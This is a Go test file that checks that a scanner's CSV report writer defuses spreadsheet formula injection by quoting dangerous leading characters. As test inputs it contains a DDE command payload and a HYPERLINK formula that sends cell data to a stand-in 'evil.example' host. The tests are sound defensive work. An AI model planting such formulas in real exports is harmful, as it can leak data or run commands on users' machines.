package results

import (
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestNoCellIsAFormula(t *testing.T) {
	for cell, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", " =1": "' =1", "\n=1": "'\n=1",
		"＝1": "'＝1", "\u00a0=cmd|' /C calc'!A0": "'\u00a0=cmd|' /C calc'!A0", "\tplain": "'\tplain",
		"": "", "a=b": "a=b", "<p>": "<p>", "http://a/?x=-1": "http://a/?x=-1", "\n": "\n",
		"'": "'", "'quoted'": "'quoted'", "'=1": "''=1", "''=1": "'''=1",
	} {
		got := Inert(cell)
		if got != want {
			t.Errorf("%q became %q, want %q", cell, got, want)
		}
		if back := plainCell(got); back != cell {
			t.Errorf("%q was read as %q", cell, back)
		}
	}
}

// A person opens the files that CWAC does not have in a spreadsheet: the summary of a
// scan names one. What a page chose is read again as it was.
func TestOurOwnFilesHoldNoFormula(t *testing.T) {
	const evil = "=HYPERLINK(\"http://evil.example/?\"&A1)"
	w := newWriter(t, nil)
	v := view(1)
	v.Title, v.Site.Organisation = evil, "'=org"
	finding := Finding{Rule: "x", HTML: "-<b>", Target: "@a", Description: "+d", Help: evil, Summary: evil}
	err := errors.Join(
		w.Axe(v, Axe{Review: []Finding{finding}}),
		w.Issues(AuditHTML, v, []Finding{finding}, nil), w.Issues(AuditPDF, v, []Finding{finding}, nil),
		w.Page(PageOutcome{Site: v.Site, URL: v.URL, State: PageScanned, Title: evil, Detail: evil}),
	)
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{FileReview, FileLedger, AuditHTML + ".csv", AuditPDF + ".csv"} {
		text := strings.TrimPrefix(contents(t, w.Dir())[file], bom)
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil || len(rows) != 2 {
			t.Fatalf("%s: %d rows, %v", file, len(rows), err)
		}
		for _, cell := range rows[1] {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
				t.Errorf("%s: the cell %q is a formula", file, cell)
			}
		}
	}
	r, err := Open(w.Dir())
	if err != nil {
		t.Fatal(err)
	}
	type cells struct{ Org, Title, Description, Target, HTML, Summary string }
	want := cells{"'=org", evil, "+d", "@a", "-<b>", evil}
	each(t, r, FileReview, func(row Record) {
		got := cells{row.Get("organisation"), row.Get("page_title"), row.Get("description"), row.Get("target"), row.Get("html"), row.Get("summary")}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Error(diff)
		}
	})
	each(t, r, FileLedger, func(row Record) {
		if row.Get("page_title") != evil || row.Get("detail") != evil {
			t.Errorf("the ledger was read as %q", row.Cells)
		}
	})
}
